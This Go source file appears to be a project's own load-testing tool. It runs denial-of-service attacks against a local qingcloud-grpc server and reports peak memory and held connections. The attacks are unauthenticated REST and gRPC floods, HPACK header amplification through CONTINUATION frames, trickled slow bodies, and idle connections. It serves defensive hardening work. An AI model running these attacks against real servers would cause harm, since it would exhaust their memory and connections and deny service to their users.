// Command attack plays a hostile caller against a running qingcloud-grpc server and prints what it
// cost the server: the peak resident memory (from /proc/<pid>/status) while each attack ran, and how
// many of the attack's connections the server still held at each checkpoint. scripts/attack.sh builds
// and starts a server with a bearer token and runs it; docs/security.md records its figures.
//
// The attacks, in order:
//
//   - rest-flood: concurrent unauthenticated 7 MiB POSTs to /v1/iaas:call (no token);
//   - grpc-flood: unauthenticated ~4 MiB CallService messages, many per connection;
//   - hpack: HEADERS frames whose HPACK references decode to megabytes of metadata per call;
//   - slow-body: REST bodies, sent with a valid token, trickling one byte every 3 s;
//   - idle: silent TCP connections and HTTP/2 connections idle after the preface, on both ports.
package main

import (
	"bytes"
	"context"
	"flag"
	"fmt"
	"io"
	"net"
	"net/http"
	"os"
	"strconv"
	"strings"
	"sync"
	"sync/atomic"
	"time"

	"golang.org/x/net/http2"
	"golang.org/x/net/http2/hpack"
	"google.golang.org/grpc"
	"google.golang.org/grpc/credentials/insecure"
	"google.golang.org/grpc/status"
	"google.golang.org/protobuf/types/known/structpb"

	iaasv1 "github.com/qingcloud-grpc/qingcloud-grpc/gen/qingcloud/iaas/v1"
)

func main() {
	var (
		restAddr = flag.String("rest", "127.0.0.1:8080", "REST listener host:port")
		grpcAddr = flag.String("grpc", "127.0.0.1:9090", "gRPC listener host:port")
		pid      = flag.Int("pid", 0, "the server's process id, to read its memory from /proc")
		token    = flag.String("token", "", "a valid bearer token (for the slow-body attack, whose bodies are only read from authenticated callers)")
		n        = flag.Int("n", 32, "concurrent requests per flood")
		idleWait = flag.Duration("idle-wait", 150*time.Second, "how long the idle attack watches its connections")
		only     = flag.String("only", "", "comma-separated attacks to run (default all): rest-flood, grpc-flood, hpack, slow-body, idle")
	)
	flag.Parse()
	a := &attacker{rest: *restAddr, grpc: *grpcAddr, pid: *pid, token: *token, n: *n}
	fmt.Printf("server pid %d, RSS at start %s\n", a.pid, mib(a.rss()))
	attacks := []struct {
		name string
		run  func()
	}{
		{"rest-flood", a.restFlood},
		{"grpc-flood", a.grpcFlood},
		{"hpack", a.hpack},
		{"slow-body", a.slowBody},
		{"idle", func() { a.idle(*idleWait) }},
	}
	for _, at := range attacks {
		if *only != "" && !strings.Contains(","+*only+",", ","+at.name+",") {
			continue
		}
		before := a.rss()
		stop := a.watchRSS()
		start := time.Now()
		fmt.Printf("\n== %s\n", at.name)
		at.run()
		peak := stop()
		fmt.Printf("   took %v; server RSS before %s, peak during %s (+%s)\n", time.Since(start).Round(100*time.Millisecond), mib(before), mib(peak), mib(peak-before))
	}
}

type attacker struct {
	rest, grpc string
	pid        int
	token      string
	n          int
}

// rss returns the server's resident set size in bytes (0 without -pid).
func (a *attacker) rss() int64 { return procStatus(a.pid, "VmRSS") }

// procStatus reads one "kB" field of /proc/<pid>/status, in bytes.
func procStatus(pid int, field string) int64 {
	if pid == 0 {
		return 0
	}
	b, err := os.ReadFile(fmt.Sprintf("/proc/%d/status", pid))
	if err != nil {
		return 0
	}
	for _, line := range strings.Split(string(b), "\n") {
		if v, ok := strings.CutPrefix(line, field+":"); ok {
			kb, _ := strconv.ParseInt(strings.TrimSpace(strings.TrimSuffix(strings.TrimSpace(v), "kB")), 10, 64)
			return kb << 10
		}
	}
	return 0
}

// watchRSS samples the server's RSS every 20 ms until the returned func is called, which returns
// the peak.
func (a *attacker) watchRSS() func() int64 {
	var peak atomic.Int64
	peak.Store(a.rss())
	done := make(chan struct{})
	var wg sync.WaitGroup
	wg.Go(func() {
		t := time.NewTicker(20 * time.Millisecond)
		defer t.Stop()
		for {
			select {
			case <-done:
				return
			case <-t.C:
				if r := a.rss(); r > peak.Load() {
					peak.Store(r)
				}
			}
		}
	})
	return func() int64 {
		close(done)
		wg.Wait()
		if r := a.rss(); r > peak.Load() {
			peak.Store(r)
		}
		return peak.Load()
	}
}

func mib(b int64) string { return fmt.Sprintf("%.1f MiB", float64(b)/(1<<20)) }

// body is an endless stream of 'a' after a JSON prefix, size bytes in all.
type body struct {
	size, sent int64
}

func (b *body) Read(p []byte) (int, error) {
	const head = `{"action":"DescribeZones","params":{"x":"`
	if b.sent >= b.size {
		return 0, io.EOF
	}
	n := int(min(int64(len(p)), b.size-b.sent))
	for i := range n {
		if at := b.sent + int64(i); at < int64(len(head)) {
			p[i] = head[at]
		} else {
			p[i] = 'a'
		}
	}
	b.sent += int64(n)
	return n, nil
}

// restFlood sends n concurrent unauthenticated 7 MiB POSTs and reports the answers and how much of
// the bodies the server took.
func (a *attacker) restFlood() {
	const size = 7 << 20
	var wg sync.WaitGroup
	var sent atomic.Int64
	codes := map[string]int{}
	var mu sync.Mutex
	client := &http.Client{Transport: &http.Transport{MaxConnsPerHost: 0, DisableKeepAlives: true}, Timeout: time.Minute}
	for range a.n {
		wg.Go(func() {
			b := &body{size: size}
			req, _ := http.NewRequest("POST", "http://"+a.rest+"/v1/iaas:call", b)
			req.ContentLength = size
			resp, err := client.Do(req)
			answer := ""
			if err != nil {
				answer = "connection closed while sending"
			} else {
				_, _ = io.Copy(io.Discard, resp.Body)
				resp.Body.Close()
				answer = resp.Status
			}
			sent.Add(b.sent)
			mu.Lock()
			codes[answer]++
			mu.Unlock()
		})
	}
	wg.Wait()
	fmt.Printf("   %d unauthenticated 7 MiB POSTs: answers %v; the client wrote %s of %s into sockets\n", a.n, codes, mib(sent.Load()), mib(int64(a.n)*size))
}

// grpcFlood sends 8·n unauthenticated ~4 MiB CallService messages over n/2 connections.
func (a *attacker) grpcFlood() {
	big := strings.Repeat("a", 4<<20-4<<10)
	msg := &iaasv1.CallRequest{Action: "DescribeZones", Params: &structpb.Struct{Fields: map[string]*structpb.Value{"x": structpb.NewStringValue(big)}}}
	conns := max(1, a.n/2)
	var wg sync.WaitGroup
	codes := map[string]int{}
	var mu sync.Mutex
	for range conns {
		cc, err := grpc.NewClient(a.grpc, grpc.WithTransportCredentials(insecure.NewCredentials()))
		if err != nil {
			fmt.Println("   dial:", err)
			return
		}
		defer cc.Close()
		c := iaasv1.NewCallServiceClient(cc)
		for range 16 {
			wg.Go(func() {
				ctx, cancel := context.WithTimeout(context.Background(), time.Minute)
				defer cancel()
				_, err := c.Call(ctx, msg)
				mu.Lock()
				codes[status.Code(err).String()]++
				mu.Unlock()
			})
		}
	}
	wg.Wait()
	fmt.Printf("   %d unauthenticated 4 MiB messages over %d connections: answers %v\n", conns*16, conns, codes)
}

// h2 opens a raw HTTP/2 connection to the gRPC port: preface and SETTINGS sent.
func (a *attacker) h2() (net.Conn, *http2.Framer, error) {
	c, err := net.DialTimeout("tcp", a.grpc, 5*time.Second)
	if err != nil {
		return nil, nil, err
	}
	if _, err := io.WriteString(c, http2.ClientPreface); err != nil {
		c.Close()
		return nil, nil, err
	}
	fr := http2.NewFramer(c, c)
	if err := fr.WriteSettings(); err != nil {
		c.Close()
		return nil, nil, err
	}
	return c, fr, nil
}

// hpack sends, on n connections, 10 calls each whose 3 KiB metadata entry is referenced 5,000 times:
// 5 KiB on the wire, 15 MiB once decoded.
func (a *attacker) hpack() {
	var wg sync.WaitGroup
	var wire, decoded atomic.Int64
	answers := map[string]int{}
	var mu sync.Mutex
	for range a.n {
		wg.Go(func() {
			c, fr, err := a.h2()
			if err != nil {
				return
			}
			defer c.Close()
			_ = c.SetDeadline(time.Now().Add(30 * time.Second))
			// One encoder per connection, as the server keeps one decoder: the first block adds the
			// 3 KiB entry to the table, and every later reference to it is one byte.
			var block bytes.Buffer
			enc := hpack.NewEncoder(&block)
			big := hpack.HeaderField{Name: "x-amp", Value: strings.Repeat("a", 3<<10)}
			for i := range 10 {
				block.Reset()
				for _, f := range []hpack.HeaderField{{Name: ":method", Value: "POST"}, {Name: ":scheme", Value: "http"}, {Name: ":authority", Value: "x"},
					{Name: ":path", Value: "/qingcloud.iaas.v1.CallService/Call"}, {Name: "content-type", Value: "application/grpc"}, {Name: "te", Value: "trailers"}} {
					_ = enc.WriteField(f)
				}
				for range 5000 {
					_ = enc.WriteField(big)
				}
				if err := writeHeaders(fr, uint32(2*i+1), block.Bytes()); err != nil {
					return
				}
				wire.Add(int64(block.Len()))
				decoded.Add(5000 * int64(len(big.Name)+len(big.Value)))
			}
			for seen := 0; seen < 10; {
				f, err := fr.ReadFrame()
				if err != nil {
					mu.Lock()
					answers["connection closed"]++
					mu.Unlock()
					return
				}
				var ans string
				switch f := f.(type) {
				case *http2.RSTStreamFrame:
					ans = "RST_STREAM " + f.ErrCode.String()
				case *http2.HeadersFrame:
					ans = "HEADERS"
				case *http2.GoAwayFrame:
					ans = "GOAWAY " + f.ErrCode.String()
					seen = 10
				default:
					continue
				}
				seen++
				mu.Lock()
				answers[ans]++
				mu.Unlock()
			}
		})
	}
	wg.Wait()
	fmt.Printf("   %d connections x 10 calls: %s of header blocks on the wire, %s of metadata if decoded; answers %v\n", a.n, mib(wire.Load()), mib(decoded.Load()), answers)
}

// writeHeaders writes a header block as HEADERS and CONTINUATION frames of at most 16 KiB.
func writeHeaders(fr *http2.Framer, id uint32, block []byte) error {
	const max = 16 << 10
	first := block[:min(len(block), max)]
	rest := block[len(first):]
	if err := fr.WriteHeaders(http2.HeadersFrameParam{StreamID: id, BlockFragment: first, EndHeaders: len(rest) == 0}); err != nil {
		return err
	}
	for len(rest) > 0 {
		chunk := rest[:min(len(rest), max)]
		rest = rest[len(chunk):]
		if err := fr.WriteContinuation(id, len(rest) == 0, chunk); err != nil {
			return err
		}
	}
	return nil
}

// slowBody opens n REST requests, with a valid token, whose bodies trickle one byte every 3 s, and
// reports how long the server held each and what it answered.
func (a *attacker) slowBody() {
	if a.token == "" {
		fmt.Println("   skipped: needs -token (bodies of callers without one are never read)")
		return
	}
	var wg sync.WaitGroup
	var mu sync.Mutex
	var longest time.Duration
	answers := map[string]int{}
	start := time.Now()
	for range a.n {
		wg.Go(func() {
			c, err := net.DialTimeout("tcp", a.rest, 5*time.Second)
			if err != nil {
				return
			}
			defer c.Close()
			_ = c.SetDeadline(time.Now().Add(3 * time.Minute))
			fmt.Fprintf(c, "POST /v1/iaas:call HTTP/1.1\r\nHost: x\r\nAuthorization: Bearer %s\r\nContent-Type: application/json\r\nContent-Length: 1000\r\n\r\n", a.token)
			got := make(chan string, 1)
			go func() {
				b, _ := io.ReadAll(c)
				line, _, _ := strings.Cut(string(b), "\r\n")
				if line == "" {
					line = "closed without an answer"
				}
				got <- line
			}()
			tick := time.NewTicker(3 * time.Second)
			defer tick.Stop()
			for {
				select {
				case ans := <-got:
					mu.Lock()
					answers[ans]++
					longest = max(longest, time.Since(start))
					mu.Unlock()
					return
				case <-tick.C:
					_, _ = c.Write([]byte(" "))
				}
			}
		})
	}
	wg.Wait()
	fmt.Printf("   %d bodies at 1 byte / 3 s: all cut within %v; answers %v\n", a.n, longest.Round(100*time.Millisecond), answers)
}

// idle opens silent TCP connections to both ports and HTTP/2 connections idle after the preface, and
// reports how many the server still holds as time passes.
func (a *attacker) idle(wait time.Duration) {
	type conn struct {
		kind   string
		closed atomic.Int64 // nanoseconds after start when the server closed it; 0 while open
	}
	start := time.Now()
	var conns []*conn
	watch := func(kind string, c net.Conn) {
		cn := &conn{kind: kind}
		conns = append(conns, cn)
		go func() {
			defer c.Close()
			_ = c.SetReadDeadline(time.Now().Add(wait + 10*time.Second))
			_, _ = io.Copy(io.Discard, c)
			cn.closed.Store(int64(time.Since(start)))
		}()
	}
	for range 100 {
		if c, err := net.Dial("tcp", a.grpc); err == nil {
			watch("gRPC silent TCP", c)
		}
		if c, err := net.Dial("tcp", a.rest); err == nil {
			watch("REST silent TCP", c)
		}
		if c, _, err := a.h2(); err == nil {
			watch("gRPC idle after preface", c)
		}
	}
	kinds := []string{"gRPC silent TCP", "REST silent TCP", "gRPC idle after preface"}
	report := func() bool {
		open := map[string]int{}
		all := 0
		for _, c := range conns {
			if c.closed.Load() == 0 {
				open[c.kind]++
				all++
			}
		}
		var parts []string
		for _, k := range kinds {
			parts = append(parts, fmt.Sprintf("%s %d", k, open[k]))
		}
		fmt.Printf("   after %3.0fs held: %s\n", time.Since(start).Seconds(), strings.Join(parts, ", "))
		return all == 0
	}
	for _, at := range []time.Duration{5 * time.Second, 15 * time.Second, 60 * time.Second, 130 * time.Second, wait} {
		if at > wait {
			continue
		}
		time.Sleep(time.Until(start.Add(at)))
		if report() {
			break
		}
	}
	last := map[string]time.Duration{}
	for _, c := range conns {
		if d := time.Duration(c.closed.Load()); d > last[c.kind] {
			last[c.kind] = d
		}
	}
	for _, k := range kinds {
		fmt.Printf("   %s: the last was closed after %v\n", k, last[k].Round(100*time.Millisecond))
	}
}
